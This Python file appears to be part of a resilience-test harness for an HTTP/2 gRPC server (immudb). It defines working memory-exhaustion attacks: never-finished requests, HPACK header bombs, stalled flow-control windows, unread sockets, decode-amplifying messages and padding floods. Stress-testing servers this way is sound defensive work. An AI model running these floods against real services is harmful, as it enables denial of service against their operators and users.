"""Attacks on memory: requests that never end, headers that swell, answers that nobody reads."""

import time

from abuse_calls import limited
from abuse_harness import attack
from abuse_http2 import (
    DATA, END_HEADERS, END_STREAM, HEADERS, HEADER_TABLE_SIZE, INITIAL_WINDOW_SIZE, LARGEST_WINDOW, PADDED, PREFACE,
    Connection, Crowd, call, call_frames, field, frame, header_block, indexed, indexing, integer,
    literal, message, reset, settings, window_update)


# Row 3: requests that never end.


def hold_unfinished(context, connections, streams, byte_count, trickles):
    """Holds `byte_count` bytes of requests on each connection and never ends them. Answers PINGs all the time.

    More requests follow, smaller ones after each that the server refuses, down to 8 bytes, so that the room that the
    server has for requests fills up to its last byte and stays full.
    """
    def submessages(size):
        return message(field(1, b"x" * 100) * (size // 102 + 1), length=31 << 20)[:size]

    whole = submessages(byte_count // streams)

    def begin(connection, size):
        stream = connection.stream()
        connection.sizes[stream] = size
        connection.push(frame(HEADERS, END_HEADERS, stream, header_block("SetBatch")))
        connection.upload(stream, whole[:size], ends=False)

    def on_end(connection, stream):
        size = connection.sizes.pop(stream, None)
        if size:
            connection.next_size = max(8, min(connection.next_size, size // 2))

    def make():
        connection = Connection(context.port, source=context.source)
        connection.sizes, connection.next_size, connection.on_end = {}, 4 << 20, on_end
        for _ in range(streams):
            begin(connection, len(whole))
        return connection

    crowd = Crowd(make, connections, reopens_per_second=20)
    following = time.monotonic() + 1

    def tick():
        nonlocal following
        for connection in crowd.members.values():
            if not connection.uploads and len(connection.sizes) < 1_000:
                begin(connection, min(len(whole), connection.next_size))
        if trickles and time.monotonic() > following:
            following += 1
            for connection in crowd.members.values():
                for stream in connection.sizes:
                    if stream not in connection.uploads and connection.window > 0:
                        connection.window -= 1
                        connection.push(frame(DATA, 0, stream, b"\n"))

    crowd.run(context.until, tick, every=0.05)
    held = sum(sum(c.sizes.values()) for c in crowd.members.values())
    waiting = sum(len(upload[0]) for c in crowd.members.values() for upload in c.uploads.values())
    context.note(f"{(held - waiting) >> 20} MiB held in {sum(len(c.sizes) for c in crowd.members.values())} requests,"
                 f" {crowd.cuts} cuts")


@attack("unfinished", "memory", row=3, seconds=20, short_seconds=4, is_about_memory=True)
def unfinished(context):
    """9 connections hold 256 MiB of requests that they never finish, and answer PINGs."""
    hold_unfinished(context, 9, 1, 29 << 20, False)


@attack("unfinished-trickle", "memory", row=3, seconds=20, short_seconds=4, is_about_memory=True)
def unfinished_trickle(context):
    """The same, with a byte a second on each stream, so that something always arrives."""
    hold_unfinished(context, 9, 1, 29 << 20, True)


@attack("unfinished-pieces", "memory", row=3, seconds=15, short_seconds=3, is_about_memory=True)
def unfinished_pieces(context):
    """The same bytes on 60 connections with 500 streams each: no request is large."""
    hold_unfinished(context, 60, 500, 5 << 20, False)


@attack("waiting-requests", "memory", seconds=25, short_seconds=4, is_about_memory=True)
def waiting_requests(context):
    """Dumps and Sets with requests of 31 MiB, complete, on connections that do not read: they wait in the server."""
    body = message(field(15, b"x" * ((31 << 20) - 16)))

    def make():
        connection = Connection(context.port, source=context.source, first=PREFACE + settings([(4, 0)]))
        for name in ("Dump", "Dump", "Dump", "Dump"):
            stream = connection.stream()
            connection.push(frame(HEADERS, END_HEADERS, stream, header_block(name)))
            connection.upload(stream, body)
        return connection

    crowd = Crowd(make, 8, reopens_per_second=2)
    crowd.run(context.until)
    context.note(f"{sum(c.sent for c in crowd.members.values()) >> 20} MiB sent, {crowd.cuts} cuts")


# Row 4: headers that swell.


def path_first(count):
    # Pseudo-header fields must come before others.
    return (indexed(3) + indexed(6) + literal(":path", "/immudb.schema.ImmuService/Get")
            + literal("content-type", "application/grpc") + indexed(62) * count)


def hold_indexed(context, connections, name, value, count, streams):
    """Sends a field once, then `streams` calls that hold it `count` times by its index, and never end."""
    def make():
        connection = Connection(context.port, source=context.source)
        first = connection.stream()
        connection.push(frame(
            HEADERS, END_HEADERS, first, indexed(3) + indexed(6)
            + literal(":path", "/immudb.schema.ImmuService/Get") + literal("content-type", "application/grpc")
            + indexing(name, value)))
        block = path_first(count)
        for _ in range(streams - 1):
            connection.push(frame(HEADERS, END_HEADERS, connection.stream(), block))
        return connection

    crowd = Crowd(make, connections, reopens_per_second=20)

    def tick():
        # All calls end and are opened again, so that their headers are decoded once more.
        for connection in list(crowd.members.values()):
            if len(connection.output):
                continue
            old = range(connection.next_stream - 2 * streams, connection.next_stream, 2)
            connection.push(b"".join(reset(stream) for stream in old if stream > 0))
            block = path_first(count)
            connection.push(b"".join(
                frame(HEADERS, END_HEADERS, connection.stream(), block) for _ in range(streams)))

    crowd.run(context.until, tick, every=2)
    context.note(f"{sum(c.sent for c in crowd.members.values()) >> 10} KiB sent, {crowd.cuts} cuts")


@attack("header-commas", "memory", row=4, seconds=15, short_seconds=2, is_about_memory=True)
def header_commas(context):
    """A -bin header of 4,040 commas, sent once, then by its index on 512 streams, on 4 connections."""
    hold_indexed(context, 4, "a-bin", b"," * 4_040, 1, 512)


@attack("indexed-headers", "memory", seconds=15, short_seconds=2, is_about_memory=True)
def indexed_headers(context):
    """A field of 4 KB, then by its index three times on each of 1,000 streams, on 40 connections."""
    hold_indexed(context, context.choose(40, 16), "x-large", b"h" * 4_000, 3, 1_000)


def bomb(context, value, count, blocks):
    """Sends a field once, then blocks of one-byte references to it, again and again, on 4 connections."""
    def refill(connection):
        out = b""
        if connection.next_stream == 1:
            out = frame(HEADERS, END_HEADERS, connection.stream(), indexed(3) + indexed(6)
                        + literal(":path", "/x") + indexing("x-large", value))
        return out + b"".join(
            frame(HEADERS, END_HEADERS | END_STREAM, connection.stream(), path_first(count)) for _ in range(blocks))

    crowd = Crowd(lambda: Connection(context.port, refill=refill, source=context.source), 4, reopens_per_second=50)
    crowd.run(context.until)
    context.note(f"{crowd.cuts} cuts")


@attack("header-bombs", "memory", seconds=10, is_about_memory=True)
def header_bombs(context):
    """16 KB of one-byte references to a field of 4 KB on every stream: 64 MB each if anything is kept."""
    bomb(context, b"h" * 4_000, 16_000, 1)


@attack("invalid-bombs", "memory", seconds=10, is_about_memory=True)
def invalid_bombs(context):
    """The same with a field that HTTP/2 forbids because of its last byte, so that the server drops it."""
    bomb(context, b"h" * 3_999 + b"\0", 16_000, 1)


@attack("small-bombs", "memory", seconds=10, is_about_memory=True)
def small_bombs(context):
    """The same in many blocks of 28 references, each of which is only seven times too large."""
    bomb(context, b"h" * 4_000, 28, 400)


@attack("table-churn", "memory", seconds=8)
def table_churn(context):
    """Each header block resizes the dynamic table to 0 and back and fills it; SETTINGS do the same to the server's."""
    churn = integer(0, 5, 0x20) + integer(4_096, 5, 0x20)
    block = churn + header_block("Get") + indexing("x-a", b"a" * 2_000) + indexing("x-b", b"b" * 1_900)

    def refill(connection):
        size = context.random.choice([0, 4_096, 1 << 20, (1 << 32) - 1])
        return settings([(HEADER_TABLE_SIZE, size)]) + b"".join(
            call_frames(connection.stream(), block, field(1, b"fresh")) for _ in range(8))

    crowd = Crowd(lambda: Connection(context.port, refill=refill, source=context.source), 4, reopens_per_second=50)
    crowd.run(context.until)
    context.note(f"{crowd.cuts} cuts")


# Row 5 and relatives: answers that nobody reads.

LARGE = 31 << 20


def load_large(port, is_short):
    """Two entries of 31 MiB."""
    for number in range(2):
        call(port, "Set", field(1, b"large-%d" % number) + field(2, bytes([65 + number]) * LARGE), seconds=60)


@attack("dump-unread", "memory", row=5, seconds=20, short_seconds=3, prepare=load_large, is_about_memory=True)
def dump_unread(context):
    """Dump of 31 MiB entries to 40 connections that do not read: half give no window, half do not read the socket."""
    count = [0]

    def make():
        count[0] += 1
        takes = count[0] % 2 == 0
        connection = Connection(
            context.port, source=context.source, receive_buffer=4_096, reads=not takes, grants=False,
            initial=[(INITIAL_WINDOW_SIZE, LARGEST_WINDOW if takes else 65_535)])
        if takes:
            connection.push(window_update(0, LARGEST_WINDOW - 65_535))
        connection.push(call_frames(connection.stream(), header_block("Dump"), b""))
        return connection

    crowd = Crowd(make, context.choose(40, 24), reopens_per_second=20)
    crowd.run(context.until)
    context.note(f"{len(crowd.members)} connections, {crowd.cuts} cuts")


@attack("dump-streams", "memory", seconds=15, short_seconds=2, prepare=load_large, is_about_memory=True)
def dump_streams(context):
    """200 Dumps and Gets of 31 MiB on each of 4 connections that give no window."""
    def make():
        connection = Connection(context.port, source=context.source, grants=False)
        for number in range(200):
            block = header_block("Dump" if number % 2 else "Get")
            connection.push(call_frames(connection.stream(), block, b"" if number % 2 else field(1, b"large-0")))
        return connection

    crowd = Crowd(make, 4, reopens_per_second=20)
    crowd.run(context.until)
    context.note(f"{crowd.cuts} cuts")


def load_medium(port, is_short):
    for size in (1 << 20, 60 << 10):
        call(port, "Set", field(1, b"medium-%d" % size) + field(2, b"m" * size))


def read_slowly(context, connections, initial_window, key, tick_bytes=0, receive_buffer=None, reads=True):
    """Makes connections that ask for 100 answers each, with the given windows."""
    def make():
        connection = Connection(
            context.port, source=context.source, grants=False, reads=reads, receive_buffer=receive_buffer,
            initial=[(INITIAL_WINDOW_SIZE, initial_window)])
        if initial_window > 65_535:
            connection.push(window_update(0, LARGEST_WINDOW - 65_535))
        connection.push(b"".join(
            call_frames(connection.stream(), header_block("Get"), field(1, key)) for _ in range(100)))
        return connection

    crowd = Crowd(make, connections, reopens_per_second=50)

    def tick():
        if tick_bytes:
            for connection in crowd.members.values():
                connection.push(b"".join(
                    window_update(stream, tick_bytes) for stream in range(1, connection.next_stream, 2)))

    crowd.run(context.until, tick, every=0.2)
    context.note(f"{crowd.cuts} cuts")


@attack("window-zero", "memory", seconds=15, prepare=load_medium, is_about_memory=True)
def window_zero(context):
    """100 answers of 1 MiB on each of 40 connections whose window is 0 and stays so."""
    read_slowly(context, 40, 0, b"medium-1048576")


@attack("window-one", "memory", seconds=15, prepare=load_medium, is_about_memory=True)
def window_one(context):
    """The same with a window of 1 byte, and another byte five times a second."""
    read_slowly(context, 40, 1, b"medium-1048576", tick_bytes=1)


@attack("socket-unread", "memory", seconds=15, prepare=load_medium, is_about_memory=True)
def socket_unread(context):
    """100 answers of 60 KiB on each of 100 connections with all windows, which do not read a tiny receive buffer."""
    read_slowly(context, context.choose(100, 50), LARGEST_WINDOW, b"medium-61440", receive_buffer=2_048, reads=False)


# Row 6: messages that swell when they are decoded.


# MiB: two messages of 12 MiB, each received, and held once more while it is decoded, and as much for the rest.
SHORT_BOUND = 96


def send_empty_submessages(context, method):
    body = b"\n\x00" * (context.choose(31, 12) << 19)

    def refill(connection):
        if connection.open_calls:
            return b""
        connection.open_calls += 1
        stream = connection.stream()
        connection.upload(stream, message(body))
        return frame(HEADERS, END_HEADERS, stream, header_block(method))

    def on_end(connection, _):
        connection.open_calls -= 1

    def make():
        connection = Connection(context.port, refill=refill, source=context.source)
        connection.open_calls, connection.on_end = 0, on_end
        return connection

    crowd = Crowd(make, 2, reopens_per_second=5)
    crowd.run(context.until)
    context.note(f"{sum(c.ended for c in crowd.members.values())} answered, {crowd.cuts} cuts")


@attack("empty-setbatch", "memory", row=6, seconds=10, short_seconds=1.5, short_bound=SHORT_BOUND,
        is_about_memory=True)
def empty_setbatch(context):
    """SetBatch of 31 MiB of empty submessages, two at a time."""
    send_empty_submessages(context, "SetBatch")


@attack("empty-setbatchsv", "memory", row=6, seconds=10, short_seconds=1.5, short_bound=SHORT_BOUND,
        is_about_memory=True)
def empty_setbatchsv(context):
    """SetBatchSV of 31 MiB of empty submessages, two at a time."""
    send_empty_submessages(context, "SetBatchSV")


@attack("empty-getbatch", "memory", row=6, seconds=10, short_seconds=1.5, short_bound=SHORT_BOUND,
        is_about_memory=True)
def empty_getbatch(context):
    """GetBatch of 31 MiB of empty submessages, two at a time."""
    send_empty_submessages(context, "GetBatch")


# Row 7: statuses that nobody reads.


@attack("percent-paths", "memory", row=7, seconds=15, short_seconds=2, is_about_memory=True)
def percent_paths(context):
    """Unknown paths of 4 KB of %, which an answer would repeat three times as long, on connections that do not read."""
    head = indexed(3) + indexed(6)
    rest = literal("content-type", "application/grpc")

    def refill(connection):
        if connection.next_stream == 1:
            return frame(HEADERS, END_HEADERS | END_STREAM, connection.stream(),
                         head + indexing(":path", b"/" + b"%" * 4_000) + rest)
        block = head + indexed(62) + rest
        return b"".join(frame(HEADERS, END_HEADERS | END_STREAM, connection.stream(), block) for _ in range(64))

    crowd = Crowd(
        lambda: Connection(context.port, refill=limited(refill, 200), source=context.source, reads=False,
                           receive_buffer=2_048),
        context.choose(80, 60), reopens_per_second=50)
    crowd.run(context.until)
    context.note(f"{crowd.cuts} cuts")


@attack("padding-flood", "memory", seconds=8)
def padding_flood(context):
    """DATA frames of one byte and 255 of padding: windows are used up, nothing arrives."""
    block = header_block("SetBatch")
    padded = bytes([255]) + b"\n" + bytes(255)

    def make():
        connection = Connection(context.port, refill=refill, source=context.source)
        for _ in range(8):
            connection.push(frame(HEADERS, END_HEADERS, connection.stream(), block))
            connection.push(frame(DATA, 0, connection.next_stream - 2, message(b"", length=31 << 20)))
            connection.window -= 5
        connection.left = {stream: 65_530 for stream in range(1, 17, 2)}
        return connection

    def refill(connection):
        # Keeps to the window of the connection; the server may cut a stream for its own.
        out = []
        while connection.window >= 257 and len(out) < 256:
            connection.window -= 257
            out.append(frame(DATA, PADDED, 1 + 2 * context.random.randrange(8), padded))
        return b"".join(out)

    crowd = Crowd(make, 4, reopens_per_second=50)
    crowd.run(context.until)
    context.note(f"{crowd.cuts} cuts")
